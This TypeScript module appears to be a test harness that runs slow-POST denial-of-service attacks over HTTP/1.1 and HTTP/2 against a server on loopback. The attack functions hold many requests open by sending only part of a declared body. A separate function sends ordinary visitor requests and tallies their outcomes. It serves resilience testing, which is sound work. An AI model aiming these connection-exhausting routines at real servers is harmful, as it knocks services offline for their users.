import { request as requestPlain } from 'node:http'
import { type ClientHttp2Session, connect as connectHttp2 } from 'node:http2'
import { request } from 'node:https'
import { connect, type Socket } from 'node:net'
import { connect as connectTls } from 'node:tls'

/** The server that an attack or a visitor connects to: a port of this machine, with TLS if it is a proxy. */
export type Target = { port: number; isTls: boolean; host: string }

/** Requests that declare a body of 1,000 bytes, send a few of them, and then nothing more. */
export type Attack = {
  path: string
  /** How many requests are open at a time. Those that end are replaced, up to 300 a second. */
  count: number
  /** The loopback addresses that they come from, in turn. */
  from: readonly string[]
}

/** The attack runs in the same process as the visitors. This limit leaves them time. */
const sentAgainPerSecond = 300

const type = 'application/x-www-form-urlencoded'

/** Keeps requests open, each on its own connection. Returns a function that stops and returns how many were sent. */
export function sendOnConnections(target: Target, { path, count, from }: Attack): () => number {
  const { port, isTls, host } = target
  const open = new Set<Socket>()
  let sent = 0
  const head = `POST ${path} HTTP/1.1\r\nhost: ${host}\r\ncontent-type: ${type}\r\ncontent-length: 1000\r\n\r\nkey=`
  const send = () => {
    const socket = connect({ port, host: '127.0.0.1', localAddress: from[sent % from.length] })
    sent += 1
    open.add(socket)
    const stream = isTls ? connectTls({ socket, servername: host, rejectUnauthorized: false }) : socket
    for (const each of [socket, stream]) each.on('error', () => {})
    stream.resume()
    stream.write(head)
    socket.once('close', () => open.delete(socket))
  }
  const stop = keepSending(() => count - open.size, send)
  return () => {
    stop()
    for (const socket of open) socket.destroy()
    return sent
  }
}

/** Does the same with streams on this many HTTP/2 connections. */
export function sendOnStreams(
  target: Target,
  { path, count, from }: Attack,
  connections: number,
): () => number {
  const sessions: { session: ClientHttp2Session; streams: number }[] = []
  let sent = 0
  const openSession = () => {
    const socket = connect({ port: target.port, host: '127.0.0.1', localAddress: from[sent % from.length] })
    socket.on('error', () => {})
    const options = { socket, servername: target.host, rejectUnauthorized: false, ALPNProtocols: ['h2'] }
    const session = connectHttp2(`https://${target.host}`, { createConnection: () => connectTls(options) })
    const entry = { session, streams: 0 }
    session.on('error', () => {})
    session.once('close', () => void sessions.splice(sessions.indexOf(entry), 1))
    sessions.push(entry)
  }
  const countStreams = () => sessions.reduce((sum, { streams }) => sum + streams, 0)
  const send = () => {
    const entry = sessions.find(({ streams }) => streams < count / connections)
    if (!entry || entry.session.closed) return
    const headers = { ':method': 'POST', ':path': path, 'content-type': type, 'content-length': '1000' }
    const stream = entry.session.request(headers, { endStream: false })
    sent += 1
    entry.streams += 1
    stream.on('error', () => {})
    stream.resume()
    stream.write('key=')
    stream.once('close', () => {
      entry.streams -= 1
    })
  }
  const stop = keepSending(() => {
    while (sessions.length < connections) openSession()
    return count - countStreams()
  }, send)
  return () => {
    stop()
    for (const { session } of [...sessions]) session.destroy()
    return sent
  }
}

/** Sends the missing requests at once, and then each second as many as have ended, up to a limit. */
function keepSending(countMissing: () => number, send: () => void): () => void {
  for (let missing = countMissing(); missing > 0; missing -= 1) send()
  const timer = setInterval(() => {
    const missing = Math.min(countMissing(), sentAgainPerSecond)
    for (let n = 0; n < missing; n += 1) send()
  }, 1_000)
  return () => clearInterval(timer)
}

/** The number of visitors by outcome: a status, an error of the connection, or 'no answer in 10 s'. */
export type Outcomes = Record<string, number>

/** Sends requests of visitors in groups, each on its own connection, without waiting for earlier responses. */
export async function sendVisitors(
  target: Target,
  {
    count,
    atOnce = 1,
    everyMs = 0,
    from,
  }: { count: number; atOnce?: number; everyMs?: number; from: string },
): Promise<Outcomes> {
  const outcomes: Outcomes = {}
  const visits: Promise<void>[] = []
  while (visits.length < count) {
    for (let n = 0; n < atOnce; n += 1)
      visits.push(
        visit(target, from).then((outcome) => {
          outcomes[outcome] = (outcomes[outcome] ?? 0) + 1
        }),
      )
    await new Promise((resolve) => setTimeout(resolve, everyMs))
  }
  await Promise.all(visits)
  return outcomes
}

const visit = ({ port, isTls, host }: Target, localAddress: string) =>
  new Promise<string>((resolve) => {
    const options = {
      host: '127.0.0.1',
      port,
      path: '/',
      localAddress,
      agent: false,
      headers: { host },
    } as const
    const asking = isTls
      ? request({ ...options, servername: host, rejectUnauthorized: false })
      : requestPlain(options)
    asking.once('response', (response) => {
      response.once('error', () => resolve('broken off'))
      response.once('end', () => resolve(`${response.statusCode}`))
      response.resume()
    })
    asking.once('error', (error: NodeJS.ErrnoException) => resolve(error.code ?? error.message))
    asking.setTimeout(10_000, () => {
      resolve('no answer in 10 s')
      asking.destroy()
    })
    asking.end()
  })
